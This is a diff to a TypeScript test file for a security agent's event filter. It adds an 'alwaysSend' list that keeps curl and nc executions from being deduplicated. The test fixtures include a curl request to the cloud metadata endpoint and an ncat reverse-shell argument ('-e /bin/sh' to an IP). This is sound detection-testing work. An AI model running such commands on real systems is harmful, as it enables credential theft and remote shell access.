@@ -1,10 +1,11 @@
 import t from 'tap';
 import { EdgeFilter } from '../../agent/filter/edge-filter.js';
 import type { EdgeBaseline } from '../../collector/contracts.js';
+import { INGEST_SERVICE, edgeBaselineFromWire, edgeBaselineToWire } from '../../common/wire.js';
 import { DIGEST, MIN, T0, WEB, exec, net } from './helpers.js';
 
 function baseline(allow: string[], phase: EdgeBaseline['phase'] = 'active', workload = WEB): EdgeBaseline {
-  return { workload, hash: allow.join(',') + phase, phase, allow, learningDedupWindowMs: MIN };
+  return { workload, hash: allow.join(',') + phase, phase, allow, learningDedupWindowMs: MIN, alwaysSend: [] };
 }
 
 t.test('drops what the baseline allows, sends the rest, counts both', async (t) => {
@@ -64,6 +65,27 @@ t.test('while learning: each distinct item once per dedup window of event time',
   f.upsert(baseline(['p|/usr/sbin/nginx'], 'active'));
   t.ok(f.shouldSend(exec('/bin/find', { time: T0 + MIN + 1 })), 'active: everything new is sent, every time');
   t.ok(f.shouldSend(exec('/bin/find', { time: T0 + MIN + 2 })));
+});
+
+t.test('while learning: exes an argument-sensitive rule names are never deduplicated', async (t) => {
+  const f = new EdgeFilter();
+  f.upsert({ ...baseline([], 'learning'), hash: 'h-always', alwaysSend: ['/usr/bin/curl', '/bin/nc*'] });
+  t.ok(f.shouldSend(exec('/usr/bin/curl', { time: T0, args: '-s https://example.com' })));
+  t.ok(f.shouldSend(exec('/usr/bin/curl', { time: T0 + 1, args: '-s http://169.254.169.254/latest/meta-data' })), 'the next run may be the denied one');
+  t.ok(f.shouldSend(exec('/bin/ncat', { time: T0 + 2 })));
+  t.ok(f.shouldSend(exec('/bin/ncat', { time: T0 + 3, args: '-e /bin/sh 1.2.3.4 25' })), 'a glob names it');
+  t.ok(f.shouldSend(exec('/bin/find', { time: T0 + 4 })));
+  t.notOk(f.shouldSend(exec('/bin/find', { time: T0 + 5 })), 'other exes are still deduplicated');
+  t.equal(f.stats().deduplicated, 1);
+});
+
+t.test('alwaysSend crosses the wire; a collector that does not send it means none', async (t) => {
+  const { responseSerialize, responseDeserialize } = INGEST_SERVICE.connect;
+  const b = { ...baseline(['p|/x'], 'learning'), alwaysSend: ['/usr/bin/curl', '/bin/nc*'] };
+  const decoded = responseDeserialize(responseSerialize({ snapshot: { version: 1, baselines: [edgeBaselineToWire(b)] } }));
+  t.same(edgeBaselineFromWire(decoded.snapshot!.baselines[0]!).alwaysSend, b.alwaysSend);
+  const old = responseDeserialize(responseSerialize({ snapshot: { version: 1, baselines: [{ ...edgeBaselineToWire(b), alwaysSend: [] }] } }));
+  t.same(edgeBaselineFromWire(old.snapshot!.baselines[0]!).alwaysSend, []);
 });
 
 t.test('bounded dedup table fails open', async (t) => {
